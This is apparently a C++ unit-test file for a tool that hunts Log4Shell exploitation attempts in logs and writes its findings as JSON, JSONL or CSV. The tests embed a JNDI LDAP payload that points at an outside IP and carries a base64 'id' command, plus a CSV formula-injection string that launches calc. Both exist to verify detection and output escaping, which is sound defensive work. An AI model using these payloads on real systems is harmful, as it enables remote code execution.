#include "hunt/hunt_writer.h"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <map>
#include <set>
#include <sstream>

#include "hunt/sample_report_testing.h"

namespace l4s::hunt {
namespace {

using nlohmann::json;
using testing::make;
using testing::sample;

TEST(HuntWriter, JsonSchema) {
  std::ostringstream out;
  write_hunt(sample(), HuntFormat::kJson, out);
  json j = json::parse(out.str());
  ASSERT_EQ(j["detections"].size(), 3u);
  const json& d = j["detections"][0];
  for (const char* key : {"file", "line", "offset", "timestamp", "source_ip", "raw", "layers", "resolved", "jndi",
                          "techniques", "exfiltrates", "decoded_command", "verdict", "severity"})
    EXPECT_TRUE(d.contains(key)) << key;
  EXPECT_EQ(d["jndi"]["name"], "ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=");
  EXPECT_EQ(d["jndi"]["host"], "45.155.205.233");
  EXPECT_EQ(d["jndi"]["port"], 12344);
  EXPECT_EQ(d["jndi"]["scheme"], "ldap");
  EXPECT_EQ(d["decoded_command"], "id");
  EXPECT_EQ(d["verdict"], "reaches_jndi_2.14");
  EXPECT_EQ(j["detections"][1]["techniques"][0], "nested_lookup");
  EXPECT_EQ(j["errors"][0]["file"], "/var/log/bad.gz");
  EXPECT_EQ(j["summary"]["attempts"], 3);
}

// The json document is streamed member by member; it must still read as
// the one nlohmann would print for the same values, empty lists included.

TEST(HuntWriter, StreamedJsonIsLaidOutAsOneDocument) {
  for (bool empty : {false, true}) {
    HuntReport r = sample();
    if (empty) {
      r.detections.clear();
      r.errors.clear();
    } else {
      r.detections[0].raw += std::string("\xff\x01\"\\", 4);  // invalid UTF-8, a control byte, escapes
    }
    std::ostringstream out;
    write_hunt(r, HuntFormat::kJson, out);
    nlohmann::ordered_json j = nlohmann::ordered_json::parse(out.str());
    EXPECT_EQ(out.str(), j.dump(2, ' ', false, nlohmann::ordered_json::error_handler_t::replace) + "\n");
    EXPECT_EQ(j["detections"].size(), empty ? 0u : 3u);
  }
}

TEST(HuntWriter, JsonlTypesAndInvalidUtf8) {
  HuntReport r = sample();
  r.detections[0].raw += std::string("\xff\x00tail", 6);
  std::ostringstream out;
  write_hunt(r, HuntFormat::kJsonl, out);
  std::istringstream in(out.str());
  std::string line;
  std::vector<std::string> types;
  while (std::getline(in, line)) types.push_back(json::parse(line)["type"]);
  EXPECT_EQ(types, (std::vector<std::string>{"detection", "detection", "detection", "error", "summary"}));
}

TEST(HuntWriter, CsvQuotesAndNeutralisesFormulas) {
  HuntReport r = sample();
  r.detections[0].file = "=cmd|' /C calc'!A0,x";
  std::ostringstream out;
  write_hunt(r, HuntFormat::kCsv, out);
  std::string s = out.str();
  EXPECT_EQ(s.substr(0, s.find('\n')),
            "file,line,offset,timestamp,source_ip,forwarded_for,verdict,severity,jndi_name,scheme,host,port,path,"
            "decoded_command,exfiltrates,techniques,layers,raw");
  EXPECT_NE(s.find("\"'=cmd|' /C calc'!A0,x\""), std::string::npos) << s;
}

}  // namespace
}  // namespace l4s::hunt
